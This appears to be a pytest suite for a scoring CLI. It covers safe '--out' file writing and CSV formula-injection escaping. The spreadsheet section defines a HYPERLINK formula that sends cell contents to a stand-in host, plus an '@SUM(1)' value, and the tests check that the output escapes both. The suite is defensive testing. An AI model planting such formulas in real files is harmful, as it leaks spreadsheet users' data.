"""Writing outputs: --out respects what is at the path, and every CSV is safe to open in a spreadsheet.

--out used to replace whatever was at the path with a new regular file: a character device
(as root, /dev/null itself), a symbolic link, one name of a hard-linked file; a mode-600 file
came back 644, runs killed while writing left hidden temporary files behind, and a directory
that could not be written ended in a traceback after the run was already recorded.
"""
import csv
import io
import json
import os
import stat
import subprocess
import sys
import threading

from casekit import REFERENCE, SAMPLE
from clikit import scoring, scoring_bytes

SCORE = ("score", "--rules", REFERENCE, "--cases", SAMPLE)
ROOT_USER = os.geteuid() == 0


def device(tmp_path, name: str, minor: int) -> str:
    """A character device to write to: as root, a twin of /dev/null (minor 3) or /dev/full (7) made here, so a
    version that replaces it replaces the twin, not the system's; otherwise the system's, which only root could replace."""
    if not ROOT_USER:
        return f"/dev/{name}"
    path = tmp_path / name
    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
    return str(path)


def test_a_character_device_is_written_through_not_replaced(tmp_path):
    null = device(tmp_path, "null", 3)
    run = scoring(*SCORE, "--format", "csv", "--out", null)
    assert run.returncode == 0, run.stderr
    assert stat.S_ISCHR(os.stat(null).st_mode)
    full = device(tmp_path, "full", 7)  # every write fails: no space left on device
    run = scoring(*SCORE, "--out", full)
    assert run.returncode == 2 and "Traceback" not in run.stderr
    assert f"error: {full}: could not be written: No space left on device" in run.stderr
    assert stat.S_ISCHR(os.stat(full).st_mode)


def test_a_named_pipe_is_written_through(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    received = []
    # a daemon: were the pipe replaced by a file, the reader would wait for a writer forever
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    run = scoring(*SCORE, "--format", "json", "--out", fifo)
    reader.join(timeout=30)
    assert run.returncode == 0, run.stderr
    assert received == [scoring(*SCORE, "--format", "json").stdout.encode("utf-8")]
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_a_symbolic_link_stays_a_link_and_its_file_gets_the_output(tmp_path):
    target = tmp_path / "ledger.csv"
    target.write_text("old\n", encoding="utf-8")
    link = tmp_path / "latest.csv"
    link.symlink_to(target.name)
    run = scoring(*SCORE, "--format", "csv", "--out", link)
    assert run.returncode == 0, run.stderr
    assert link.is_symlink() and os.readlink(link) == target.name
    assert target.read_text(encoding="utf-8-sig") == scoring(*SCORE, "--format", "csv").stdout  # a file: with its BOM


def test_a_hard_linked_file_is_refused_before_anything_is_scored(tmp_path):
    one, other = tmp_path / "one.json", tmp_path / "other.json"
    one.write_text("old\n", encoding="utf-8")
    os.link(one, other)
    store = tmp_path / "runs.db"
    run = scoring(*SCORE, "--out", other, "--record", "--store", store)
    assert run.returncode == 2 and run.stdout == "" and not store.exists()
    assert f"error: {other}: the file has 2 hard links; replacing it would leave the others with the old content" in run.stderr
    assert one.read_text(encoding="utf-8") == other.read_text(encoding="utf-8") == "old\n"
    assert os.stat(one).st_ino == os.stat(other).st_ino


def test_the_replaced_file_keeps_its_permissions(tmp_path):
    for mode in (0o600, 0o640, 0o604):
        out = tmp_path / f"ledger-{mode:o}.json"
        out.write_text("old\n", encoding="utf-8")
        out.chmod(mode)
        run = scoring(*SCORE, "--format", "json", "--out", out)
        assert run.returncode == 0, run.stderr
        assert stat.S_IMODE(os.stat(out).st_mode) == mode and out.read_text(encoding="utf-8") != "old\n"


def test_files_left_by_a_killed_run_are_named_for_it_and_removed_by_the_next(tmp_path):
    out = tmp_path / "report.xlsx"
    ended = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    dead = int(ended.stdout)  # a process that has ended: what it was writing is left over
    alive = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        left = tmp_path / f".report.xlsx.{dead}.k9x2.scoring-partial"
        writing = tmp_path / f".report.xlsx.{alive.pid}.p3q4.scoring-partial"  # another run, still writing
        for partial in (left, writing):
            partial.write_bytes(b"x" * 1000)
        run = scoring(*SCORE, "--format", "xlsx", "--out", out)
        assert run.returncode == 0, run.stderr
        assert not left.exists() and writing.exists()
        assert sorted(p.name for p in tmp_path.iterdir()) == sorted([out.name, writing.name])
    finally:
        alive.kill()
        alive.wait()


def test_a_directory_that_cannot_be_written_is_refused_before_the_run_is_recorded(tmp_path):
    if ROOT_USER:
        folder = "/sys"  # root may write into any directory; sysfs refuses to create files, even for root
    else:
        folder = tmp_path / "read-only"
        folder.mkdir()
        folder.chmod(0o555)
    store = tmp_path / "runs.db"
    run = scoring(*SCORE, "--out", f"{folder}/ledger.json", "--record", "--store", store)
    assert run.returncode == 2 and "Traceback" not in run.stderr and run.stdout == ""
    assert f"error: {folder}/ledger.json: cannot write in {folder}: " in run.stderr
    assert not store.exists()  # nothing was recorded
    for command in (("rules", "show", REFERENCE), ("schema",), ("import", SAMPLE.parent / "register-2020.xlsx")):
        run = scoring(*command, "--out", f"{folder}/x")
        assert run.returncode == 2 and "Traceback" not in run.stderr and f"cannot write in {folder}" in run.stderr


def test_a_read_only_file_is_refused(tmp_path, monkeypatch):
    out = tmp_path / "kept.json"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o444)
    if ROOT_USER:  # root may write any file: look at it as its owner would
        access = os.access
        monkeypatch.setattr(os, "access",
                            lambda path, mode: access(path, mode) and not (str(path) == str(out) and mode & os.W_OK))
    run = scoring(*SCORE, "--out", out)
    assert run.returncode == 2 and f"error: {out}: cannot write here: the file is read-only" in run.stderr
    assert out.read_text(encoding="utf-8") == "old\n"


# ---------------------------------------------------------------- CSV opened in a spreadsheet

EVIL = '=HYPERLINK("http://example.invalid/?d="&A1,"市民政局")'


def test_csv_text_that_starts_like_a_formula_is_kept_as_text_and_numbers_stay_numbers(tmp_path):
    text = SAMPLE.read_text(encoding="utf-8").replace("市民政局", EVIL.replace('"', '\\"'))
    cases = tmp_path / "cases.jsonl"
    cases.write_text(text.replace('"id": "2020-J0076"', '"id": "@SUM(1)"'), encoding="utf-8")  # a case of 市民政局
    run = scoring("score", "--rules", REFERENCE, "--cases", cases, "--format", "csv")
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    departments = {row[0] for row in rows[1:]}
    assert "'" + EVIL in departments and EVIL not in departments
    assert "'@SUM(1)" in {row[4] for row in rows[1:]}
    points = [row[12] for row in rows[1:]]
    assert "-2.5" in points or "-1" in points  # negative points are numbers, written as such
    assert all(float(p) == float(p) for p in points)
    # the self-check's work list too
    run = scoring("self-check", "--rules", REFERENCE, "--cases", cases, "--department", EVIL, "--as-of", "2020-06-05",
                  "--format", "csv")
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert ["at_risk", "'@SUM(1)", "L4"] in [row[:3] for row in rows]
    assert [row[6] for row in rows[1:] if row[6].startswith("-")]  # points lost, as numbers


def test_a_csv_file_starts_with_a_byte_order_mark_for_excel_and_standard_output_does_not(tmp_path):
    printed = scoring(*SCORE, "--format", "csv")
    out = tmp_path / "ledger.csv"
    written = scoring(*SCORE, "--format", "csv", "--out", out)
    assert printed.returncode == written.returncode == 0
    assert out.read_bytes() == b"\xef\xbb\xbf" + printed.stdout.encode("utf-8")
    assert not printed.stdout.startswith("\ufeff")


def test_out_dash_is_standard_output_even_for_a_workbook(tmp_path):
    assert scoring(*SCORE, "--format", "json", "--out", "-", cwd=tmp_path).stdout == scoring(*SCORE, "--format", "json").stdout
    assert not (tmp_path / "-").exists()
    few = tmp_path / "few.jsonl"  # a small year: the workbook is the point, not its size
    few.write_text("".join(SAMPLE.read_text(encoding="utf-8").splitlines(keepends=True)[:20]), encoding="utf-8")
    out = tmp_path / "year.xlsx"
    small = ("score", "--rules", REFERENCE, "--cases", few, "--format", "xlsx")
    assert scoring(*small, "--out", out).returncode == 0
    assert scoring_bytes(*small, "--out", "-") == out.read_bytes()
    refused = scoring(*SCORE, "--format", "xlsx")
    assert refused.returncode == 2 and "--out - for standard output" in refused.stderr


def test_cases_dash_reads_standard_input_a_case_file_or_a_register():
    from casekit import ROOT
    from_file = scoring(*SCORE, "--format", "json")
    rules = ("score", "--rules", REFERENCE, "--cases", "-", "--format", "json")
    assert scoring(*rules, stdin=SAMPLE.read_bytes()).stdout == from_file.stdout
    register = scoring(*rules, stdin=(ROOT / "samples" / "register-2020.xlsx").read_bytes())
    assert register.returncode == 0 and json.loads(register.stdout)["departments"] == json.loads(from_file.stdout)["departments"]
    broken = scoring(*rules, stdin=b'{"id": 1\n')
    assert broken.returncode == 2 and "<stdin>:1: not valid JSON" in broken.stderr
